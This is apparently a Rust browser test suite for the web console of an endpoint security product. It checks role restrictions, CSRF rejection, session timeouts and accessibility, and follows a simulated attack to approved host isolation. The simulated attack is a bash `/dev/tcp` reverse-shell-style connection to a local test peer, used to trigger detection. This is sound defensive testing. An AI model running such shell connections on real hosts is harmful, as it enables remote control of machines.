//! The web console in a real browser: Debian's Chromium, headless, driven through
//! playwright-core (`tests/src/browser.rs`), against the real controller. One test follows an
//! attack from the agent's host to its contained incident as two people would see it; the
//! other checks what the console refuses: a viewer is offered no containment and a forged
//! POST from their session gets 403, a POST without the CSRF token is refused, an idle
//! session goes back to sign-in. Both check the main pages with axe-core and the keyboard.

#![allow(clippy::unwrap_used)] // a failed unwrap is a failed test

use cordon_tests::browser::Chromium;
use cordon_tests::deploy::{CTL_ADDR, Deployment, PEER_V4};
use cordon_tests::netns::{EchoServer, reachable};
use cordon_tests::repo::{apply, marker, own_rule};
use cordon_tests::require_root;
use serde_json::{Value, json};
use std::time::Duration;

const PASSWORD: &str = "correct horse battery";

/// `name` with `role` and a console password.
fn person(d: &Deployment, name: &str, role: &str) {
    d.invite(name, role, &[]);
    d.set_password(name, PASSWORD);
}

/// Fails with the list when axe-core finds a serious or critical violation on `who`'s page.
fn accessible(b: &mut Chromium, who: &str, page: &str) {
    let found: Vec<Value> = b.axe(who);
    assert!(
        found.is_empty(),
        "accessibility violations on {page}: {found:#?}"
    );
}

/// The CSRF token of `who`'s current page (every signed-in page has the sign-out form).
fn csrf_of(b: &mut Chromium, who: &str) -> String {
    b.attr(who, "input[name=csrf]", "value")
        .expect("a CSRF field")
}

#[test]
fn the_console_refuses_what_a_role_may_not_do_forged_posts_and_idle_sessions() {
    let test = "the_console_refuses_what_a_role_may_not_do_forged_posts_and_idle_sessions";
    let (d, console) = Deployment::with_console("", "session_idle_secs = 4");
    let agent = d.enroll_agent("web-1", &["team=blue"]);
    person(&d, "vera", "viewer");
    person(&d, "ada", "admin");
    let Some(mut b) = Chromium::start(test, &d, console.addr) else {
        return;
    };

    // The keyboard alone signs in: the name field has the focus, Enter submits.
    b.person("vera");
    b.goto("vera", "/login");
    b.fill("vera", "input[name=name]", "vera");
    b.fill("vera", "input[name=password]", PASSWORD);
    b.press("vera", "Enter");
    b.wait("vera", "h1", Some("Overview"), Duration::from_secs(10));
    b.press("vera", "Tab");
    assert_eq!(b.focused("vera"), "Skip to content");
    accessible(&mut b, "vera", "the overview");
    for page in [
        "/agents",
        "/incidents",
        "/events",
        "/rules",
        "/playbooks",
        "/audit",
    ] {
        assert_eq!(b.goto("vera", page), 200, "{page}");
        b.wait("vera", "h1", None, Duration::from_secs(5));
        accessible(&mut b, "vera", page);
    }

    // The viewer's agent page offers no containment, and the server refuses it anyway.
    assert_eq!(b.goto("vera", &format!("/agents/{}", agent.id)), 200);
    b.wait("vera", "h1", None, Duration::from_secs(5));
    accessible(&mut b, "vera", "an agent page");
    assert_eq!(b.count("vera", "#action-isolate"), 0, "no isolate button");
    let token = csrf_of(&mut b, "vera");
    let forged = json!({"csrf": token, "reason": "forged", "allow": ""});
    let (status, _) = b.post("vera", &format!("/agents/{}/isolate", agent.id), forged);
    assert_eq!(status, 403, "a viewer's forged isolation");

    // The admin's page offers it; without the CSRF token the same POST is refused.
    b.person("ada");
    b.sign_in("ada", PASSWORD);
    b.goto("ada", &format!("/agents/{}", agent.id));
    assert_eq!(
        b.count("ada", "#action-isolate"),
        1,
        "the admin may isolate"
    );
    let (status, _) = b.post(
        "ada",
        &format!("/agents/{}/isolate", agent.id),
        json!({"reason": "no token"}),
    );
    assert_eq!(status, 403, "a POST without the CSRF token");
    let isolations = d.ctl_list(&["commands", "list", "--agent", &agent.id]);
    assert_eq!(isolations.as_array().unwrap().len(), 0, "nothing was sent");

    // Idle past the limit: the next page is the sign-in page.
    std::thread::sleep(Duration::from_secs(5));
    b.goto("vera", "/agents");
    assert!(
        b.current_url("vera").ends_with("/login"),
        "{}",
        b.current_url("vera")
    );
    b.wait("vera", "h1", Some("Sign in"), Duration::from_secs(5));
    accessible(&mut b, "vera", "the sign-in page");
    let errors: Vec<String> = b
        .console_messages("vera")
        .into_iter()
        .filter(|m| m.contains("Content Security Policy") || m.starts_with("pageerror"))
        .collect();
    assert!(errors.is_empty(), "script errors: {errors:?}");
}

/// Where screenshots go: `$CORDON_SCREENSHOTS` (e.g. `docs/` to refresh the README's), else
/// the test's own directory.
fn screenshot(b: &mut Chromium, d: &Deployment, who: &str, name: &str) {
    let dir = std::env::var_os("CORDON_SCREENSHOTS")
        .map(std::path::PathBuf::from)
        .unwrap_or_else(|| d.dir.path().to_path_buf());
    b.screenshot(who, &dir.join(format!("console-{name}.png")));
}

#[test]
fn an_analyst_watches_an_attack_become_an_incident_and_an_approver_contains_it() {
    let test = "an_analyst_watches_an_attack_become_an_incident_and_an_approver_contains_it";
    if !require_root(test) {
        return;
    }
    let console = format!("{CTL_ADDR}:7444");
    let d = Deployment::namespaces_with_peer(&format!("[console]\nlisten = \"{console}\"\n"));
    let Some(mut b) = Chromium::start(test, &d, console.parse().unwrap()) else {
        return;
    };
    person(&d, "alice", "analyst");
    person(&d, "bob", "approver");
    // A rule of this test's own, and a playbook that isolates the host it fires on: the host
    // is protected, so the isolation waits for a person's approval.
    let m = marker("browser");
    let rule = own_rule(&d, &m);
    apply(
        &d,
        "contain-browser",
        &format!(
            "name: contain-browser\ntrigger:\n  rules: [{rule}]\nsteps:\n  - action: isolate_host\n    timeout_secs: 60\n"
        ),
    );
    let token = d.token_with_labels(&["cordon.protected=true"]);
    let mut agent = d.enroll_agent_with(&token, "web-7", &[]);
    d.start_agent(&mut agent);
    d.wait_online(&agent, true, Duration::from_secs(20));

    // Alice sees the host online, then the incidents list, which nothing has filled yet.
    b.person("alice");
    b.sign_in("alice", PASSWORD);
    b.goto("alice", "/agents");
    b.wait("alice", "tbody tr", Some("online"), Duration::from_secs(10));
    screenshot(&mut b, &d, "alice", "agents");
    b.goto("alice", "/incidents");
    assert_eq!(b.count("alice", "tbody#incidents tr[data-key]"), 0);

    // The attack: a reverse shell on the agent's host, holding a connection to the peer.
    let host = d.agent_ns.as_ref().unwrap().name.clone();
    let peer = d.peer_ns.as_ref().unwrap().name.clone();
    let _listener = EchoServer::start(&peer, &format!("{PEER_V4}:8080"));
    let peer_addr = format!("{PEER_V4}:8080").parse().unwrap();
    assert!(reachable(&host, peer_addr), "the peer is reachable before");
    let _shell = Killed(
        d.agent_ns
            .as_ref()
            .unwrap()
            .command("bash")
            .args([
                "-c",
                &format!("exec 3<>/dev/tcp/{PEER_V4}/8080; sleep 120 <&3 # {m}"),
            ])
            .spawn()
            .unwrap(),
    );

    // The incident appears on the open page, without a reload.
    let row = b.wait(
        "alice",
        "tbody#incidents tr[data-key]",
        None,
        Duration::from_secs(30),
    );
    assert!(
        row.contains(&m),
        "the incident is titled by the test's rule: {row}"
    );
    b.click("alice", "tbody#incidents tr[data-key] a");
    b.wait("alice", "#process-tree", Some(&m), Duration::from_secs(10));
    let tree = b.text("alice", "#process-tree");
    assert!(tree.contains("/dev/tcp"), "the shell in its tree: {tree}");
    accessible(&mut b, "alice", "an incident page");
    let incident_url = b.current_url("alice");

    // Bob, a second person, approves the isolation the playbook asked for.
    b.person("bob");
    b.sign_in("bob", PASSWORD);
    b.goto("bob", "/approvals");
    b.wait(
        "bob",
        "tbody#approvals tr[data-key]",
        Some(&agent.id),
        Duration::from_secs(30),
    );
    accessible(&mut b, "bob", "the approvals queue");
    b.fill(
        "bob",
        "tbody#approvals tr[data-key] input[name=reason]",
        "reverse shell seen in the browser",
    );
    b.click("bob", "tbody#approvals tr[data-key] button[value=approve]");
    let cut = cordon_tests::poll(Duration::from_secs(30), || {
        (!reachable(&host, peer_addr)).then_some(())
    });
    assert!(cut.is_some(), "the host is isolated after the approval");
    b.goto("bob", &format!("/agents/{}", agent.id));
    b.wait(
        "bob",
        "#isolation",
        Some("isolated"),
        Duration::from_secs(10),
    );
    accessible(&mut b, "bob", "an agent page");
    screenshot(&mut b, &d, "bob", "agent");

    // Alice's timeline shows the approval and the isolation; she downloads the report.
    let path = incident_url
        .split_once("/incidents/")
        .unwrap()
        .1
        .to_string();
    b.goto("alice", &format!("/incidents/{path}"));
    b.wait(
        "alice",
        "ol#timeline",
        Some("approved"),
        Duration::from_secs(20),
    );
    screenshot(&mut b, &d, "alice", "incident");
    let (file, name) = b.download("alice", "a#report-md", d.dir.path());
    assert!(name.ends_with(".md"), "{name}");
    let report = std::fs::read_to_string(file).unwrap();
    assert!(
        report.contains(&agent.id) && report.contains("isolate_host") && report.contains("bob"),
        "{report}"
    );
    b.goto("alice", "/");
    b.wait("alice", "#latest_alerts tr", None, Duration::from_secs(10));
    accessible(&mut b, "alice", "the overview");
    screenshot(&mut b, &d, "alice", "overview");
}

/// A process this test started, killed when the test ends, however it ends.
struct Killed(std::process::Child);

impl Drop for Killed {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}
